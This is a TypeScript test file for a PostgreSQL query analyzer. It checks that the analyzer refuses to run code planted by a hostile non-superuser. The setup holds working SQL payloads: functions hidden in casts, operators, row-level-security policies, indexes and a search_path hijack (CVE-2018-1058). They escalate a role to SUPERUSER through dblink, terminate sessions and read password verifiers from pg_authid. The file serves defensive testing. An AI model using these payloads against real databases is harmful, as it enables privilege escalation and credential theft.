// Issue 11 on real PostgreSQL 13, 15 and 17: an ordinary user (mallory, owner of the database, no superuser) plants
// user code everywhere PostgreSQL can run it from — STABLE/IMMUTABLE wrappers, a row-level-security policy, a domain
// CHECK, user casts, operators (also inside x op ANY (SELECT …)), attribute notation, a user aggregate, a
// public.lower(varchar) that out-matches the built-in, a partial index whose predicate the planner folds, a foreign
// table, a view, functions that raise or fold a secret — and runs each statement until pg_stat_statements ranks it.
// Each statement reaches few rows (the payload runs per row when mallory plants it). The payload, if ever run with
// the agent's rights, would wipe pg_stat_statements, kill a victim session, take a session advisory lock, create a
// replication slot, write a row through dblink and make mallory SUPERUSER. She also points the database's
// search_path at public first and shadows current_setting() (CVE-2018-1058).
// The analyzer then runs as a superuser with explain.role and as a pg_monitor (+ pg_read_all_data) role, through
// `db_analyzer report`, `db_analyzer serve` and `db_textfile`. Evidence: pg_stat_statements rows, the victim
// session, pg_locks, pg_roles.rolsuper, pg_replication_slots, the dblink table, the secret (and SCRAM verifiers)
// searched in every output. A final control runs the payload as superuser and sees every one of those change, so
// the checks can see what they look for. The benign workload keeps its executed plans and findings.
import { strict as assert } from 'node:assert';
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { Client } from 'pg';
import { collectDatabase, DEFAULT_OPENERS } from '../../src/collectors/db/databases';
import { explainSlowQueries, PlanCache } from '../../src/explain';
import { DEFAULT_EXPLAIN, type ExplainConfig } from '../../src/core/config';
import type { DatabaseReport, SlowQuery } from '../../src/core/report';
import { openPostgres } from '../../src/sources/postgres';
import { testConfig, type TestConfig } from '../harness/dbconfig';
import { startPostgres, type PostgresMajor, type PostgresServer } from '../../src/demo/embedded-postgres';
import { assertWorkloadFindings, runPostgresWorkload, type WorkloadResult } from '../harness/workload';
import { sleep } from '../../src/demo/local-server';
import { ROOT, startServe } from '../harness/serve-process';

/** The plan cache of this file's collections (one per process, as serve keeps one). */
const planCache = new PlanCache();

const MALLORY_PASSWORD = 'mallory-password-1';
const MONITOR_PASSWORD = 'monitor-password-1';
const EXPLAIN_ROLE = 'db_sentinel_explain';
const TOKEN = 'token-0123456789abcdef-issue11';

/** Objects the superuser makes first: the secret, the dblink target, the victim's extension, the FDW. */
function superuserSetup(secret: string): string[] {
  return [
    'CREATE EXTENSION dblink',
    'CREATE EXTENSION postgres_fdw',
    `CREATE ROLE mallory LOGIN PASSWORD '${MALLORY_PASSWORD}'`,
    'GRANT SELECT ON ALL TABLES IN SCHEMA public TO mallory',
    'GRANT USAGE ON FOREIGN DATA WRAPPER postgres_fdw TO mallory',
    // The database's owner is an ordinary user: on 15+ that also gives her CREATE on schema public.
    'ALTER DATABASE postgres OWNER TO mallory',
    'CREATE TABLE secret_vault (s text)',
    `INSERT INTO secret_vault VALUES ('${secret}')`,
    'CREATE TABLE dblink_evidence (note text)',
    // The explain role and the monitor role may both read the secret (SELECT on every table of the schema): the
    // gate, not a missing privilege, is what must keep it out of the report.
    `CREATE ROLE ${EXPLAIN_ROLE} NOLOGIN`,
    `GRANT SELECT ON ALL TABLES IN SCHEMA public TO ${EXPLAIN_ROLE}`,
    `CREATE ROLE sentinel_monitor LOGIN PASSWORD '${MONITOR_PASSWORD}'`,
    'GRANT pg_monitor TO sentinel_monitor',
    'GRANT SELECT ON ALL TABLES IN SCHEMA public TO sentinel_monitor',
  ];
}

/** Mallory's objects. `dblinkTarget` is a libpq connection string to this server as the superuser (local trust). */
function malloryObjects(pg: PostgresServer, dblinkTarget: string): string[] {
  const target = dblinkTarget.replace(/'/g, "''");
  return [
    `CREATE FUNCTION hostile_payload() RETURNS integer LANGUAGE plpgsql AS $f$
     BEGIN
       BEGIN PERFORM pg_stat_statements_reset(); EXCEPTION WHEN OTHERS THEN NULL; END;
       BEGIN PERFORM pg_terminate_backend(pid) FROM pg_stat_activity WHERE application_name = 'hostile_victim';
         EXCEPTION WHEN OTHERS THEN NULL; END;
       BEGIN PERFORM pg_advisory_lock(4242); EXCEPTION WHEN OTHERS THEN NULL; END;
       BEGIN PERFORM pg_create_physical_replication_slot('hostile_slot'); EXCEPTION WHEN OTHERS THEN NULL; END;
       BEGIN PERFORM dblink_exec('${target}',
           'INSERT INTO dblink_evidence VALUES (''written through dblink''); ALTER ROLE mallory SUPERUSER');
         EXCEPTION WHEN OTHERS THEN NULL; END;
       RETURN 1;
     END $f$`,
    `CREATE FUNCTION hostile_stable() RETURNS integer LANGUAGE sql STABLE AS $$ SELECT public.hostile_payload() $$`,
    `CREATE FUNCTION hostile_immutable() RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN public.hostile_payload(); END $$`,
    `CREATE FUNCTION hostile_dblink() RETURNS integer LANGUAGE plpgsql STABLE AS $f$
     BEGIN
       BEGIN PERFORM dblink_exec('${target}', 'INSERT INTO dblink_evidence VALUES (''stable wrapper'')');
         EXCEPTION WHEN OTHERS THEN NULL; END;
       RETURN 1;
     END $f$`,
    `CREATE FUNCTION hostile_promote() RETURNS integer LANGUAGE plpgsql AS $$
     BEGIN
       BEGIN EXECUTE 'ALTER ROLE mallory SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
       RETURN public.hostile_payload();
     END $$`,
    `CREATE FUNCTION hostile_true() RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN public.hostile_payload() = 1; END $$`,
    // Row-level security: the owner (mallory) is exempt, every other non-BYPASSRLS role runs the policy.
    'CREATE TABLE hostile_rls AS SELECT g AS id FROM generate_series(1, 20) g',
    'ALTER TABLE hostile_rls ENABLE ROW LEVEL SECURITY',
    'CREATE POLICY hostile_policy ON hostile_rls USING (public.hostile_true())',
    'GRANT SELECT ON hostile_rls TO PUBLIC',
    // A domain whose CHECK runs the payload, as a cast target and as a column type.
    'CREATE DOMAIN hostile_dom AS integer CHECK (public.hostile_true())',
    'CREATE TABLE hostile_domain_table (v hostile_dom)',
    'INSERT INTO hostile_domain_table SELECT g FROM generate_series(1, 10) g',
    'GRANT SELECT ON hostile_domain_table TO PUBLIC',
    // User casts: explicit (integer -> hostile_t) and implicit (hostile_t -> text, read from a column).
    'CREATE TYPE hostile_t AS (v integer)',
    `CREATE FUNCTION hostile_to_t(integer) RETURNS hostile_t LANGUAGE plpgsql IMMUTABLE AS
       $$ BEGIN PERFORM public.hostile_payload(); RETURN ROW($1)::hostile_t; END $$`,
    'CREATE CAST (integer AS hostile_t) WITH FUNCTION hostile_to_t(integer)',
    `CREATE FUNCTION hostile_t_text(hostile_t) RETURNS text LANGUAGE plpgsql IMMUTABLE AS
       $$ BEGIN PERFORM public.hostile_payload(); RETURN 'x'; END $$`,
    'CREATE CAST (hostile_t AS text) WITH FUNCTION hostile_t_text(hostile_t) AS IMPLICIT',
    'CREATE TABLE hostile_cast_table AS SELECT ROW(g)::hostile_t AS c FROM generate_series(1, 10) g',
    'GRANT SELECT ON hostile_cast_table TO PUBLIC',
    // An operator over an IMMUTABLE-labelled function.
    `CREATE FUNCTION hostile_eq(integer, integer) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS
       $$ BEGIN PERFORM public.hostile_payload(); RETURN $1 = $2; END $$`,
    'CREATE OPERATOR =#= (LEFTARG = integer, RIGHTARG = integer, FUNCTION = hostile_eq)',
    // Attribute notation: c.hostile_attr calls hostile_attr(c).
    'CREATE FUNCTION hostile_attr(customers) RETURNS integer LANGUAGE sql STABLE AS $$ SELECT public.hostile_payload() $$',
    // A user aggregate.
    `CREATE FUNCTION hostile_sfunc(integer, integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS
       $$ BEGIN PERFORM public.hostile_payload(); RETURN $1 + 1; END $$`,
    "CREATE AGGREGATE hostile_agg(integer) (SFUNC = hostile_sfunc, STYPE = integer, INITCOND = '0')",
    // lower(varchar) matches a varchar argument better than pg_catalog.lower(text), whatever the search_path.
    `CREATE FUNCTION public.lower(varchar) RETURNS text LANGUAGE plpgsql IMMUTABLE AS
       $$ BEGIN PERFORM public.hostile_payload(); RETURN pg_catalog.lower($1::text); END $$`,
    // Exfiltration: an exception carrying the secret, and an IMMUTABLE function the planner folds into a Filter.
    `CREATE FUNCTION hostile_raise() RETURNS integer LANGUAGE plpgsql STABLE AS $$
     DECLARE found text;
     BEGIN
       BEGIN SELECT s INTO found FROM secret_vault; EXCEPTION WHEN OTHERS THEN NULL; END;
       IF found IS NOT NULL THEN RAISE EXCEPTION 'hostile leak: %', found; END IF;
       RETURN 1;
     END $$`,
    `CREATE FUNCTION hostile_secret() RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$
     DECLARE found text := 'nothing';
     BEGIN
       BEGIN SELECT s INTO found FROM secret_vault; EXCEPTION WHEN OTHERS THEN NULL; END;
       BEGIN SELECT found || ' ' || rolpassword INTO found FROM pg_authid WHERE rolname = 'postgres';
         EXCEPTION WHEN OTHERS THEN NULL; END;
       RETURN found;
     END $$`,
    // A partial index whose predicate the planner folds while planning any query of the table.
    'CREATE TABLE hostile_indexed AS SELECT g AS id FROM generate_series(1, 50) g',
    'CREATE INDEX hostile_partial ON hostile_indexed (id) WHERE public.hostile_true()',
    'GRANT SELECT ON hostile_indexed TO PUBLIC',
    // A view that hides the wrapper.
    'CREATE VIEW hostile_view AS SELECT hostile_stable() AS v',
    'GRANT SELECT ON hostile_view TO PUBLIC',
    // A foreign table (postgres_fdw back into this server as mallory).
    `CREATE SERVER hostile_server FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '${pg.port}', dbname 'postgres')`,
    `CREATE USER MAPPING FOR PUBLIC SERVER hostile_server OPTIONS (user 'mallory', password '${MALLORY_PASSWORD}')`,
    'CREATE FOREIGN TABLE hostile_foreign (id integer) SERVER hostile_server OPTIONS (table_name \'customers\')',
    'GRANT SELECT ON hostile_foreign TO PUBLIC',
    // CVE-2018-1058: the database's sessions look in public first, where current_setting() now runs the payload.
    `CREATE FUNCTION public.current_setting(text) RETURNS text LANGUAGE plpgsql STABLE AS
       $$ BEGIN PERFORM public.hostile_payload(); RETURN pg_catalog.current_setting($1); END $$`,
    'ALTER DATABASE postgres SET search_path = public, pg_catalog',
  ];
}

interface Hostile {
  sql: string;
  /** A fragment of the refusal reason (the object and the rule). */
  reason: RegExp;
}

const HOSTILE: Hostile[] = [
  { sql: 'SELECT hostile_stable() AS hostile_a, count(*) FROM orders', reason: /calls public\.hostile_stable\(\), which is not built in/ },
  { sql: 'SELECT hostile_immutable() AS hostile_b FROM customers WHERE id = 1', reason: /calls public\.hostile_immutable\(\), which is not built in/ },
  { sql: 'SELECT hostile_dblink() FROM customers WHERE id = 2', reason: /calls public\.hostile_dblink\(\), which is not built in/ },
  { sql: 'SELECT hostile_promote() FROM customers WHERE id = 3', reason: /calls public\.hostile_promote\(\), which is not built in/ },
  { sql: 'SELECT count(*) FROM hostile_rls', reason: /reads table public\.hostile_rls, which has row-level security/ },
  { sql: 'SELECT 7::hostile_dom AS v, count(*) FROM customers WHERE id < 4', reason: /names type public\.hostile_dom, which is not built in/ },
  { sql: 'SELECT count(*) FROM hostile_domain_table', reason: /column v public\.hostile_dom is not of a built-in type/ },
  { sql: 'SELECT id::hostile_t FROM customers WHERE id < 5', reason: /names type public\.hostile_t, which is not built in/ },
  { sql: 'SELECT length(c) FROM hostile_cast_table', reason: /column c public\.hostile_t is not of a built-in type/ },
  { sql: 'SELECT count(*) FROM customers hostile_g WHERE id < 20 AND id =#= 3', reason: /uses operator public\.=#=, which is not built in/ },
  { sql: 'SELECT count(*) FROM customers hostile_h WHERE id < 20 AND id =#= ANY (SELECT id FROM customers WHERE id < 5)', reason: /uses operator public\.=#=/ },
  { sql: 'SELECT c.hostile_attr FROM customers c WHERE c.id = 4', reason: /\.hostile_attr may call public\.hostile_attr\(\) by attribute notation, which is not built in/ },
  { sql: 'SELECT hostile_agg(id) FROM customers WHERE id < 10', reason: /calls public\.hostile_agg\(\), which is not built in/ },
  { sql: 'SELECT count(*) FROM customers hostile_k WHERE id < 20 AND lower(name::varchar) = \'customer 1\'', reason: /calls public\.lower\(\), which is not built in/ },
  { sql: 'SELECT hostile_raise() FROM customers WHERE id = 5', reason: /calls public\.hostile_raise\(\), which is not built in/ },
  { sql: 'SELECT count(*) FROM orders WHERE note = hostile_secret()', reason: /calls public\.hostile_secret\(\), which is not built in/ },
  { sql: 'SELECT count(*) FROM hostile_indexed WHERE id = 5', reason: /reads table public\.hostile_indexed, which depends on function public\.hostile_true\(\), which is not built in/ },
  { sql: 'SELECT * FROM hostile_view', reason: /reads view public\.hostile_view, which depends on function public\.hostile_stable\(\), which is not built in/ },
  { sql: 'SELECT count(*) FROM hostile_foreign', reason: /reads foreign table public\.hostile_foreign/ },
  { sql: 'SELECT pg_try_advisory_lock(4343) AS hostile_l, count(*) FROM customers', reason: /calls pg_try_advisory_lock\(\), which has side effects/ },
];

const EXPLAIN: ExplainConfig = { ...DEFAULT_EXPLAIN, statement_timeout_ms: 5000, budget_seconds: 120 };

interface Evidence {
  /** pg_stat_statements rows that are not the agent's own. */
  pgssRows: number;
  /** Calls of mallory's statements, by query id. */
  hostileCalls: Record<string, number>;
  victimAlive: boolean;
  advisoryLocks: number;
  malloryIsSuperuser: boolean;
  slots: number;
  dblinkRows: number;
}

async function evidence(pg: PostgresServer, victim: Client): Promise<Evidence> {
  const client = await pg.connect();
  try {
    const [pgss] = (await client.query<{ n: string }>(
      "SELECT count(*) AS n FROM public.pg_stat_statements WHERE query NOT LIKE '/* db_sentinel */%'")).rows;
    const hostile = (await client.query<{ id: string; calls: string }>(
      `SELECT s.queryid::text AS id, s.calls::text AS calls FROM public.pg_stat_statements s JOIN pg_catalog.pg_roles r ON r.oid = s.userid
       WHERE r.rolname = 'mallory' AND s.query LIKE 'SELECT%'`)).rows;
    let victimAlive = true;
    try {
      const [pid] = (await victim.query<{ pid: number }>('SELECT pg_catalog.pg_backend_pid() AS pid')).rows;
      const seen = await client.query('SELECT 1 FROM pg_catalog.pg_stat_activity WHERE pid = $1', [pid?.pid]);
      victimAlive = seen.rowCount === 1;
    } catch {
      victimAlive = false; // the victim's connection was terminated: exactly what this evidence is for
    }
    const [locks] = (await client.query<{ n: string }>("SELECT count(*) AS n FROM pg_catalog.pg_locks WHERE locktype = 'advisory'")).rows;
    const [mallory] = (await client.query<{ rolsuper: boolean }>("SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = 'mallory'")).rows;
    const [slots] = (await client.query<{ n: string }>('SELECT count(*) AS n FROM pg_catalog.pg_replication_slots')).rows;
    const [dblink] = (await client.query<{ n: string }>('SELECT count(*) AS n FROM public.dblink_evidence')).rows;
    return {
      pgssRows: Number(pgss?.n), hostileCalls: Object.fromEntries(hostile.map((row) => [row.id, Number(row.calls)])),
      victimAlive, advisoryLocks: Number(locks?.n), malloryIsSuperuser: mallory?.rolsuper === true, slots: Number(slots?.n),
      dblinkRows: Number(dblink?.n),
    };
  } finally {
    await client.end();
  }
}

/** Nothing happened: the same rows and calls (or more), the victim alive, no lock, no slot, no row, no superuser. */
function assertUntouched(before_: Evidence, now: Evidence, when: string): void {
  assert.ok(now.pgssRows >= before_.pgssRows, `${when}: pg_stat_statements lost rows (${before_.pgssRows} -> ${now.pgssRows})`);
  for (const [id, calls] of Object.entries(before_.hostileCalls)) {
    assert.ok((now.hostileCalls[id] ?? 0) >= calls, `${when}: pg_stat_statements entry ${id} was reset`);
  }
  assert.equal(now.victimAlive, true, `${when}: the victim session was terminated`);
  assert.equal(now.advisoryLocks, 0, `${when}: an advisory lock is held`);
  assert.equal(now.malloryIsSuperuser, false, `${when}: mallory became SUPERUSER`);
  assert.equal(now.slots, 0, `${when}: a replication slot was created`);
  assert.equal(now.dblinkRows, 0, `${when}: a row was written through dblink`);
}

function isHostile(query: SlowQuery): boolean {
  return /hostile/i.test(query.query) && query.user === 'mallory';
}

function assertNoSecret(text: string, secret: string, where: string): void {
  assert.ok(text.length > 0, `${where} is empty`);
  assert.equal(text.includes(secret), false, `${where} carries the secret`);
  assert.equal(/SCRAM-SHA-256\$/.test(text), false, `${where} carries a SCRAM verifier`);
  assert.equal(text.includes('hostile leak'), false, `${where} carries the raised exception's text`);
}

/** Every hostile entry skipped with the object and the rule named; returns how many were checked. */
function assertRefused(queries: readonly SlowQuery[], major: PostgresMajor): number {
  const hostile = queries.filter(isHostile);
  for (const statement of HOSTILE) {
    const entry = hostile.find((query) => normalizedMatches(query.query, statement.sql));
    assert.ok(entry !== undefined, `PostgreSQL ${major}: ${statement.sql} is not in the ranking`);
    assert.equal(entry.plan?.method, 'skipped', `${statement.sql}: ${entry.plan?.summary}`);
    assert.match(entry.plan?.reason ?? '', statement.reason, statement.sql);
  }
  return hostile.length;
}

/** pg_stat_statements replaces literals with $n: compare the texts with literals and $n taken out. */
function normalizedMatches(normalized: string, sql: string): boolean {
  const strip = (text: string): string => text.replace(/\$\d+|'[^']*'|\b\d+\b/g, '?').replace(/\s+/g, ' ').trim();
  return strip(normalized) === strip(sql);
}

async function fetchText(url: string, token?: string): Promise<{ status: number; body: string }> {
  const response = await fetch(url, token === undefined ? {} : { headers: { Authorization: `Bearer ${token}` } });
  return { status: response.status, body: await response.text() };
}

for (const major of [17, 15, 13] as const) {
  describe(`PostgreSQL ${major}: a hostile ordinary user cannot make the analyzer run her code or leak`, () => {
    const secret = `TOPSECRET-${major}-${process.pid}-${Date.now()}`;
    let pg: PostgresServer;
    let workload: WorkloadResult;
    let victim: Client;
    let baseline: Evidence;
    let superuser: TestConfig;
    let monitor: TestConfig;
    let files: string;

    before(async () => {
      pg = await startPostgres(major);
      workload = await runPostgresWorkload(pg);
      files = mkdtempSync(join(tmpdir(), 'db_sentinel-hostile-'));
      const admin = await pg.connect();
      try {
        for (const statement of superuserSetup(secret)) await admin.query(statement);
        if (major >= 14) await admin.query('GRANT pg_read_all_data TO sentinel_monitor');
      } finally {
        await admin.end();
      }
      const mallory = new Client({ connectionString: pg.url('postgres', 'mallory', MALLORY_PASSWORD) });
      await mallory.connect();
      try {
        for (const statement of malloryObjects(pg, `host=${pg.dir} port=${pg.port} dbname=postgres user=postgres`)) {
          await mallory.query(statement);
        }
      } finally {
        await mallory.end();
      }
      // Fresh sessions get the database's new search_path; each statement runs twice (min_calls 2).
      const planter = new Client({ connectionString: pg.url('postgres', 'mallory', MALLORY_PASSWORD) });
      await planter.connect();
      try {
        for (const statement of HOSTILE) {
          for (let run = 0; run < 2; run += 1) {
            await planter.query(statement.sql).catch((error: unknown) => {
              throw new Error(`planting ${statement.sql}: ${String(error)}`, { cause: error });
            });
          }
        }
      } finally {
        await planter.end();
      }
      victim = new Client({ connectionString: pg.url(), application_name: 'hostile_victim' });
      // Terminated by the control at the end: the idle client then emits 'error', which evidence() reads as dead.
      victim.on('error', () => undefined);
      await victim.connect();
      baseline = await evidence(pg, victim);
      superuser = testConfig([{ name: 'main', engine: 'postgresql', url: pg.url() }], {
        slow_queries: { limit: 50, min_calls: 2 },
        explain: { statement_timeout_ms: 5000, budget_seconds: 120, role: EXPLAIN_ROLE, cache_file: join(files, 'plan-cache.json') },
        server: { token_file: join(files, 'token'), interval_seconds: 3600 },
      });
      monitor = testConfig([{ name: 'main', engine: 'postgresql', url: pg.url('postgres', 'sentinel_monitor', MONITOR_PASSWORD) }], {
        slow_queries: { limit: 50, min_calls: 2 },
        explain: { statement_timeout_ms: 5000, budget_seconds: 120, cache_file: join(files, 'plan-cache-monitor.json') },
        server: { token_file: join(files, 'token'), interval_seconds: 3600 },
      });
      writeFileSync(join(files, 'token'), `${TOKEN}\n`, { mode: 0o600 });
      for (const setup of [superuser, monitor]) writeFileSync(join(setup.dir, 'config.yml'), JSON.stringify(setup.document));
    });
    after(async () => {
      await victim?.end().catch(() => undefined);
      superuser?.cleanup();
      monitor?.cleanup();
      if (files !== undefined) rmSync(files, { recursive: true, force: true });
      await pg?.stop();
    });

    it('the baseline: mallory is an ordinary user, her statements ranked, nothing of the payload happened yet', () => {
      assert.equal(baseline.malloryIsSuperuser, false);
      assert.ok(Object.keys(baseline.hostileCalls).length >= HOSTILE.length,
        `${Object.keys(baseline.hostileCalls).length} of mallory's statements in pg_stat_statements`);
      assertUntouched(baseline, baseline, 'baseline');
    });

    for (const [agent, setup] of [['superuser with explain.role', () => superuser], ['pg_monitor role', () => monitor]] as const) {
      it(`${agent}: db_analyzer report refuses every hostile statement by name and rule, changes nothing, leaks nothing`, async () => {
        const output = execFileSync(process.execPath, [join(ROOT, 'build', 'db_analyzer.js'), 'report', '--config', join(setup().dir, 'config.yml')],
          { cwd: tmpdir(), encoding: 'utf8', timeout: 180_000 });
        const report = JSON.parse(output) as { databases: DatabaseReport[] };
        const database = report.databases[0]!;
        assert.equal(database.up, true, database.error ?? undefined);
        assert.ok(assertRefused(database.slow_queries, major) >= HOSTILE.length);
        // The workload is still planned: generic plans of its normalized text, with findings.
        const planned = database.slow_queries.filter((query) => !isHostile(query) && query.plan?.method === 'generic_explain');
        assert.ok(planned.length >= 3, `${planned.length} workload statements planned`);
        assert.ok(planned.some((query) => query.plan?.findings.some((finding) => finding.rule === 'seq_scan_filter')));
        assertNoSecret(output, secret, 'the report JSON');
        assertUntouched(baseline, await evidence(pg, victim), `after report as ${agent}`);
      });

      it(`${agent}: db_analyzer serve needs the token for /report, and /report and /metrics leak nothing while the agent's session lives`, async () => {
        const serve = await startServe(['--config', join(setup().dir, 'config.yml'), '--listen', '127.0.0.1:0']);
        try {
          let health = await fetchText(`${serve.url}/healthz`, TOKEN);
          for (let waited = 0; health.status !== 200 && waited < 180_000; waited += 500) {
            await sleep(500);
            health = await fetchText(`${serve.url}/healthz`, TOKEN);
          }
          assert.equal(health.status, 200, health.body);
          assert.equal((await fetchText(`${serve.url}/report`)).status, 401, '/report without the token');
          const report = await fetchText(`${serve.url}/report`, TOKEN);
          const metrics = await fetchText(`${serve.url}/metrics`, TOKEN);
          assert.equal(report.status, 200);
          const database = (JSON.parse(report.body) as { databases: DatabaseReport[] }).databases[0]!;
          assertRefused(database.slow_queries, major);
          assertNoSecret(report.body, secret, '/report');
          assertNoSecret(metrics.body, secret, '/metrics');
          // The agent's session is still open here: a session lock it took would show now.
          assertUntouched(baseline, await evidence(pg, victim), `while serve runs as ${agent}`);
        } finally {
          assert.equal(await serve.stop(), 0);
        }
      });
    }

    it('db_textfile (superuser with explain.role): the textfile leaks nothing, nothing changed', async () => {
      const dir = join(files, 'textfile');
      execFileSync('mkdir', ['-p', dir]);
      execFileSync(process.execPath, [join(ROOT, 'build', 'db_textfile.js'), '--dir', dir, '--config', join(superuser.dir, 'config.yml')],
        { cwd: tmpdir(), encoding: 'utf8', timeout: 180_000 });
      assertNoSecret(readFileSync(join(dir, 'db_sentinel.prom'), 'utf8'), secret, 'the textfile');
      assertUntouched(baseline, await evidence(pg, victim), 'after db_textfile');
    });

    it('a superuser agent without explain.role plans nothing and says how to set the role up', async () => {
      const bare = testConfig([{ name: 'main', engine: 'postgresql', url: pg.url() }]);
      try {
        const report = await collectDatabase(bare.config.databases[0]!, { limit: 50, min_calls: 2 }, DEFAULT_OPENERS.postgresql, { config: EXPLAIN, cache: planCache });
        assert.ok(report.slow_queries.length >= HOSTILE.length);
        for (const query of report.slow_queries) {
          assert.equal(query.plan?.method, 'skipped', query.query);
          assert.match(query.plan?.reason ?? '', /is a superuser and explain\.role is not set.*CREATE ROLE db_sentinel_explain NOLOGIN/);
        }
      } finally {
        bare.cleanup();
      }
      assertUntouched(baseline, await evidence(pg, victim), 'after the superuser without explain.role');
    });

    it('the benign workload gets EXPLAIN ANALYZE under the explain role with its findings', async () => {
      const session = await openPostgres(superuser.config.databases[0]!);
      try {
        await assertWorkloadFindings(workload, (queries) => explainSlowQueries(queries,
          { database: 'main', engine: 'postgresql', session, config: superuser.config.explain, cache: new PlanCache() }), 'postgres');
      } finally {
        await session.close();
      }
    });

    it('an EXPLAIN error is reported by SQLSTATE and our own words, never the server text (a cast failing on a secret value)', async () => {
      const session = await openPostgres(superuser.config.databases[0]!);
      try {
        const sql = 'SELECT count(*) FROM secret_vault WHERE s::integer > 0';
        const query: SlowQuery = { rank: 1, id: 'cast-leak', query: sql, calls: 2, mean_ms: 1, total_ms: 2, max_ms: null, rows: 1, sample: sql };
        await explainSlowQueries([query], { database: 'main', engine: 'postgresql', session, config: superuser.config.explain, cache: new PlanCache() });
        assert.equal(query.plan?.method, 'skipped');
        assert.match(query.plan?.reason ?? '', /^EXPLAIN failed: SQLSTATE 22P02 \(data exception\)/);
        assertNoSecret(JSON.stringify(query.plan), secret, 'the plan of a failing cast');
      } finally {
        await session.close();
      }
    });

    it('control: the payload run with superuser rights changes every piece of evidence (the checks can see it)', async () => {
      const client = await pg.connect();
      try {
        await client.query('SELECT public.hostile_payload()');
        const [folded] = (await client.query<{ v: string }>('SELECT public.hostile_secret() AS v')).rows;
        assert.ok(folded?.v.includes(secret) && /SCRAM-SHA-256\$/.test(folded.v), 'the fold would have leaked the secret');
        const changed = await evidence(pg, victim);
        assert.ok(changed.pgssRows < baseline.pgssRows, 'pg_stat_statements reset');
        assert.equal(changed.victimAlive, false, 'victim terminated');
        assert.equal(changed.advisoryLocks, 1, 'advisory lock held by the control session');
        assert.equal(changed.malloryIsSuperuser, true, 'mallory made SUPERUSER through dblink');
        assert.equal(changed.slots, 1, 'replication slot created');
        assert.equal(changed.dblinkRows, 1, 'row written through dblink');
      } finally {
        await client.end();
      }
    });
  });
}
